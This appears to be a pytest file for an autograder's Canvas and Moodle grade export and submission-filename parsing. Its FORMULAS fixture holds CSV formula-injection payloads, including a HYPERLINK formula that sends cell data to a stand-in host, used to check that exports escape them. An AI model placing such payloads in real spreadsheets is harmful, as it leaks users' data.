"""grades.csv and the names of Canvas and Moodle, read back as they read them."""

import csv
import datetime

import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin

from autograder.lms.archives import Sender
from autograder.lms.canvas import Canvas
from autograder.lms.senders import claim
from autograder.lms.tables import Grades

from .platforms import Member, canvas_name, moodle_name

# nbgrader's own add_submission makes SQLAlchemy warn.
pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")


FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"x")',
    *"+1+1 -2+3 @SUM(A1) \uff1d1+1 -".split(),
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    " =1+1",
    "\u200b=1",
    "x;=1+1;y",
    'x; "@SUM(A1)',
]


@pytest.fixture(scope="module")
def gradebook(tmp_path_factory):
    with Gradebook(f"sqlite:///{tmp_path_factory.mktemp('book')}/gradebook.db") as g:
        g.add_student("ada", first_name="Ada", last_name='King, "Countess"', lms_user_id="1234")
        g.add_student("bob")
        g.add_assignment("ch01_rooflines")
        g.add_notebook("exercises", "ch01_rooflines")
        g.add_grade_cell("q1", "exercises", "ch01_rooflines", max_score=3, cell_type="code")
        g.add_source_cell("q1", "exercises", "ch01_rooflines", cell_type="code")
        g.add_submission("ch01_rooflines", "ada")
        g.find_grade("q1", "exercises", "ch01_rooflines", "ada").auto_score = 2.5
        for i, name in enumerate(FORMULAS):
            g.add_student(f"@mallory{i}", first_name=name, last_name=name, email=name, lms_user_id=name)
        g.add_submission("ch01_rooflines", "@mallory0", timestamp=datetime.datetime(2030, 1, 2, 3))
        late = g.find_submission_notebook("exercises", "ch01_rooflines", "@mallory0")
        late.grades[0].auto_score, late.grades[0].extra_credit, late.late_submission_penalty = 2, 0.5, 1.25
        g.db.commit()
        yield g


def test_a_row_for_each_student_and_points_possible(gradebook, tmp_path):
    Canvas(to=str(tmp_path / "c.csv")).export(gradebook)
    rows = list(csv.reader((tmp_path / "c.csv").read_text(encoding="utf-8").splitlines()))
    assert rows[0] == ["Student", "ID", "SIS Login ID", "Section", "ch01_rooflines"]
    assert rows[1] == ["    Points Possible", "", "", "", "3"]
    assert ['King, "Countess", Ada', "1234", "ada", "", "2.5"] in rows
    assert ["bob", "", "bob", "", ""] in rows


def test_only_the_assignments_asked_for(gradebook, tmp_path):
    Canvas(to=str(tmp_path / "c.csv"), assignment=["another"]).export(gradebook)
    assert (tmp_path / "c.csv").read_text(encoding="utf-8").splitlines()[0] == "Student,ID,SIS Login ID,Section"


def rows(plugin, gradebook, to):
    plugin(to=str(to)).export(gradebook)
    with open(to, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("plugin", [Canvas, Grades])
def test_no_name_is_a_formula(plugin, gradebook, tmp_path):
    found = rows(plugin, gradebook, tmp_path / "c.csv")
    assert len({len(row) for row in found}) == 1
    cells = [c for row in found for text in row for c in text.split(";")]  # as where a decimal comma is usual
    assert sum(c.startswith("'") for c in cells) >= 3 * len(FORMULAS)
    for c in cells:
        assert not c.lstrip(' "\u200b').startswith(("=", "+", "-", "@", "\uff1d")), c
        assert not c.startswith(("\t", "\r", "\n")), c


def test_extra_credit_and_lateness_count(gradebook, tmp_path):
    row = next(r for r in rows(Canvas, gradebook, tmp_path / "c.csv") if r[2] == "'@mallory0")
    assert row[-1] == "1.25"
    row = next(r for r in rows(Grades, gradebook, tmp_path / "g.csv") if r[3] == "'@mallory0")
    assert row[2] == "2030-01-02 03:00:00" and row[7:] == ["2.5", "1.25", "1.25", "3.0"]


def test_grades_are_those_of_nbgrader(gradebook, tmp_path):
    """The same file as the stock plugin's, where no name needs quotes or an apostrophe."""
    for plugin, name in ((CsvExportPlugin, "theirs"), (Grades, "ours")):
        plugin(to=str(tmp_path / name), student=["bob"]).export(gradebook)
    assert (tmp_path / "ours").read_bytes() == (tmp_path / "theirs").read_bytes()
    stock = tmp_path / "stock"
    CsvExportPlugin(to=str(stock), student=["ada"]).export(gradebook)
    ours = next(r for r in rows(Grades, gradebook, tmp_path / "all") if r[3] == "ada")
    assert ",".join(ours) == stock.read_text(encoding="utf-8").splitlines()[1]


NAMES = [
    ("Ada", "Lovelace"), ("Zoë", "Œuvré-Müller"), ("Мария", "Склодовская"), ("伟", "张"), ("さくら", "山田"), ("지민", "박"),
    ("محمد", "الخوارزمي"), ("דנה", "כהן"), ("प्रिया", "शर्मा"), ("Αλέξης", "Παππάς"), ("Nguyễn", "Thị Ánh"), ("ณัฐ", "ศรีสุข"),
    ("Madonna", ""), ("X Æ A-12", "O'Neill"), ("Late", "Late"), ("_", "_7_"), ("assignsubmission", "file"),
]  # fmt: skip
FILES = ["exercises.ipynb", "exercises-1.ipynb", "my_12_34_work.ipynb", "x_77_assignsubmission_file_y.ipynb", "1.ipynb",
         "LATE_5_6_a.ipynb", "作业 (1).ipynb", "anon_abcde_1_a.ipynb", "no_suffix"]  # fmt: skip


@pytest.mark.parametrize("file", FILES)
@pytest.mark.parametrize("first, last", NAMES)
@pytest.mark.sample(quick=40)
def test_the_sender_is_whom_the_platform_names(first, last, file):
    who = Member(first, last, 1234)
    for late in (False, True):
        found = claim((canvas_name(who, file, 5678, late),))
        assert (found.sender.platform, found.sender.number, found.sender.late) == ("Canvas", "1234", late)
        assert found.path == (file,) and found.file_id == 5678
        found = claim((canvas_name(who, file, 5678, late, anonymous="aB3xZ"),))
        assert found.sender == Sender("Canvas", "anon_aB3xZ", late=late) and found.path == (file,)
    for folders in (True, False):
        for blind in (True, False):
            for old in (True, False) if folders else (False,):
                found = claim(tuple(moodle_name(who, file, folders, blind=blind, old=old).split("/")))
                assert (found.sender.platform, found.sender.number) == ("Moodle", "1234")
                assert found.path == (file,)


def test_text_typed_on_the_page():
    who = Member("Ada", "Lovelace", 1234)
    assert claim((canvas_name(who, "text.html", 0, late=True),)).sender.late
    assert claim((canvas_name(who, "link.html", 0),)).path == ("link.html",)
    assert claim((canvas_name(who, "text.html", 0, anonymous="abcde"),)).sender.number == "anon_abcde"
    for folders in (True, False):
        found = claim(tuple(moodle_name(who, "onlinetext.html", folders, "onlinetext").split("/")))
        assert found.sender.number == "1234" and found.path == ("onlinetext.html",)


def test_nobody_can_send_for_another_in_a_folder_of_theirs():
    theirs = ("Eve_9_assignsubmission_file_", "Ada_1_assignsubmission_file_", "a_1_2_exercises.ipynb")
    assert claim(theirs, lambda s: s.number == "1").sender.number == "9"
    assert claim(("eve_9_2_work", "a_1_2_exercises.ipynb"), lambda s: True).sender.number == "9"


def test_a_folder_with_a_date_is_no_sender():
    found = claim(("backup_2030_11_25", "lovelaceada_1234_5678_exercises.ipynb"), lambda s: s.number == "1234")
    assert found.sender.number == "1234"


@pytest.mark.parametrize(
    "name", ["exercises.ipynb", "ada_exercises.ipynb", "ada_12.ipynb", "Default group_assignsubmission_file_"]
)
def test_what_names_nobody(name):
    assert claim((name,)) is None
